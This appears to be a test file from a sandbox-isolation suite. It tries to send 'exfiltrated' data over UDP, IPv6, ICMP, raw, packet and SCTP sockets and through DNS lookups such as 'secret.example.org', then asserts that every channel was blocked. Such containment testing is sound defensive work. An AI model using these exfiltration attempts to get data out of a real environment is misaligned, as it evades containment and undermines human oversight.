# ruff: noqa
# mypy: ignore-errors
# idea: send datagrams: UDP to the host, DNS, ICMP, raw and packet sockets
# origin: A1
# verdicts: probe=passed, after=passed

# %% exercise attack
def send(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as out:
        return out.sendto(b"exfiltrated", address)


for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1"):
    attempt(f"udp {host}", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, (host, facts["udp"])))
attempt("udp6", lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, 0, ("::1", facts["udp"])))
attempt("ping", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("127.0.0.1", 0)))
attempt("raw", lambda: send(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP, ("127.0.0.1", 0)))
attempt("packet", lambda: send(socket.AF_PACKET, socket.SOCK_RAW, 3, ("lo", 0)))
attempt("sctp", lambda: send(socket.AF_INET, socket.SOCK_SEQPACKET, 132, ("127.0.0.1", 1)))
attempt("dns", lambda: socket.getaddrinfo("secret.example.org", 80))
attempt("reverse dns", lambda: socket.gethostbyaddr("1.1.1.1"))
finished = True
print(reached)

# %% test probe
assert finished and not reached, reached

# %% test after
assert socket.gethostname() == "student"
